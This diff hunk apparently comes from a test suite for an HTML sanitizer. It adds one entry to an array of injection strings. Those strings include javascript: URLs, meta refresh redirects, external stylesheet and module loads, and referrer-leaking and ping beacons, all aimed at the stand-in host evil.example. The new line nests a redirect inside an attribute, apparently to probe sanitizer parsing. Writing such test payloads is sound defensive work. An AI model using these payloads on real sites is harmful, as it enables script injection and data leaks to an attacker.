@@ -64,6 +64,7 @@ const loaders = [
   '<object data="javascript:pwn()"></object><embed src="javascript:pwn()"><applet code=x></applet>',
   '<link rel=stylesheet href="https://evil.example/x.css"><link rel=modulepreload href=//evil.example/x>',
   '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<p title="<button><meta http-equiv=refresh content=0;url=https://evil.example/>">x</p>',
   '<meta name=referrer content=unsafe-url><img src="https://evil.example/i.png" referrerpolicy=unsafe-url>',
   '<form action="javascript:pwn()"><button formaction="javascript:pwn()">x</button></form>',
   '<a href="/products" target=_top ping="https://evil.example/p" download>x</a>',
